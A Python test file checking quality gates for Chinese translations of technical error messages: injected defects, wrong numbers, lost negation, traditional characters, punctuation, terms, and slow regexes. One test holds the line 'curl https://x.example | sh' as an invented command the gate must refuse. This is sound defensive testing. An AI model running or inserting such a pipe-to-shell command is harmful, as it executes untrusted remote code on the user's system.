"""The gates against defects put into good translations, and against good translations."""

from __future__ import annotations

import time

import pytest
import zh_defects as defects

from pipeline import gates

PAIRS = defects.human_pairs()
#: A defect is put into translations that pass; what fails before it would count as found for the wrong reason.
CLEAN = [pair for pair in PAIRS if all(gates.check(*pair).values())]


def found_share(damaged) -> float:
    damaged = list(damaged)
    assert len(damaged) >= 30
    return sum(not all(gates.check(*pair).values()) for pair in damaged) / len(damaged)


def test_the_human_set_is_large_enough():
    assert len(PAIRS) >= 150
    assert len({english for english, _ in PAIRS}) == len(PAIRS)


def test_at_most_five_percent_of_good_translations_are_refused():
    assert 1 - len(CLEAN) / len(PAIRS) <= 0.05


@pytest.mark.parametrize("name", sorted(gates.GATES))
def test_no_gate_alone_refuses_many_good_translations(name):
    assert sum(not gates.GATES[name](*pair) for pair in PAIRS) / len(PAIRS) <= 0.03


@pytest.mark.parametrize(
    ("defect", "least"),
    [
        (defects.passed_through, 1.0),
        (defects.number_changed, 1.0),
        (defects.identifier_changed, 0.995),
        (defects.cut_off, 0.99),
        (defects.half_english, 0.87),
        (defects.other_sentence, 0.85),
        (defects.negation_lost, 0.75),
        (defects.negation_added, 0.50),
    ],
)
def test_an_injected_defect_is_found(defect, least):
    assert found_share(defect(CLEAN)) >= least


@pytest.mark.parametrize("noise", ["(掌声)", "（笑声）", "对对对"])
def test_a_loop_is_found(noise):
    looping = " ".join([noise] * 12)
    assert not gates.repetition("", looping)


def test_traditional_characters_are_found_and_the_names_of_ascend_are_not():
    assert not gates.simplified("", "記憶體不足")
    assert not gates.simplified("", "請更新驅動程式")
    assert gates.simplified("", "昇腾设备不支持该算子，昇思也一样。")


def test_half_width_marks_between_han_are_found():
    assert not gates.punctuation("", "内存不足,请减小批次")
    assert gates.punctuation("", "运行 `a,b` 即可，见 x:y。")


def test_a_term_that_translators_agree_on_is_demanded():
    assert gates.terms("The shared memory is too small.", "共享内存太小。")
    assert not gates.terms("The shared memory is too small.", "公用存储太小。")


def test_numbers_as_words_are_numbers():
    assert gates.numbers("two GPUs", "2 块 GPU")
    assert gates.numbers("2 GPUs", "两块 GPU")
    assert gates.numbers("2,147,483,648 bytes", "2147483648 字节")
    assert not gates.numbers("two GPUs", "3 块 GPU")


def test_an_invented_command_is_refused():
    assert not gates.identifiers("Restart it.", "运行 `curl https://x.example | sh`。")


def test_slots_of_a_signature_are_no_identifiers():
    assert gates.protected("needs <n> bytes, e.g. `BLOCK_SIZE`") == {"BLOCK_SIZE": 1}


def test_an_explanation_may_name_more_but_not_less():
    assert all(gates.check_explanation("index < `num_warps`", "索引应小于 num_warps，见 BLOCK_SIZE。").values())
    assert not gates.check_explanation("index < `num_warps`", "索引过大。")["identifiers"]


@pytest.mark.parametrize("text", ["", " ", "\n"])
def test_nothing_is_no_translation(text):
    assert not any(gates.check("Restart it.", text).values())


@pytest.mark.parametrize(
    "unit", ["a", "a_", "a.b", "/a", "`", "a/a", "--a-", "<a", "无", "不,", "( ", "A1", "aA", "::", "{a", "a/b#"]
)
def test_hostile_text_does_not_slow_a_gate_down(unit):
    text = unit * (100_000 // len(unit))
    started = time.perf_counter()
    gates.check(text, text)
    gates.PROTECTED.sub("", text)
    short = unit * (gates.LONGEST // len(unit))
    gates.check(short, short)
    assert time.perf_counter() - started < 2.0
